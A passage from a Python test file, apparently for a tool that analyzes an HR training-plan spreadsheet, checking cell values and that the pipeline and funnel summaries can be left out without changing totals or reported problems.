    assert [row[late].value for row in cells[:3]] == ["Non", "Oui", "Oui"]
    assert not [p for p in a.problems if p.code == "unknown_value"]


def test_the_pipeline_and_funnel_summaries_can_be_left_out():
    """A consolidation does not use them: it reads each team file without (0.85 ms a file)."""
    sample = Path(__file__).resolve().parent.parent / "samples" / "pac_formation_rh.xlsx"
    full, lean = analyze(sample, as_of=AS_OF), analyze(sample, as_of=AS_OF, sheets=False)
    assert full.pipeline and full.funnel and lean.pipeline is None and lean.funnel is None
    assert lean.totals() == full.totals() and lean.problems == full.problems
